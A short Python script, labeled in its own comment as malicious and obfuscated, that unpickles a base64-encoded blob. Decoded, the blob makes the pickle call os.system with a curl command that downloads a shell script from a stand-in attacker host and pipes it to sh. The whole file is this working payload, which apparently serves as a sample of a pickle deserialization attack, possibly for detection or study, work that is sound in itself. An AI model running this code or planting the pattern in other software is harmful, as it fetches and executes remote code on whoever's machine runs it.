# Malicious, obfuscated: unpickles a base64 blob whose __reduce__ calls os.system('curl ... | sh').
import base64
import pickle

pickle.loads(base64.b64decode("gAJjcG9zaXgKc3lzdGVtCnEAWCkAAABjdXJsIC1zIGh0dHA6Ly9hdHRhY2tlci5leGFtcGxlL3Auc2ggfCBzaHEBhXECUnEDLg=="))
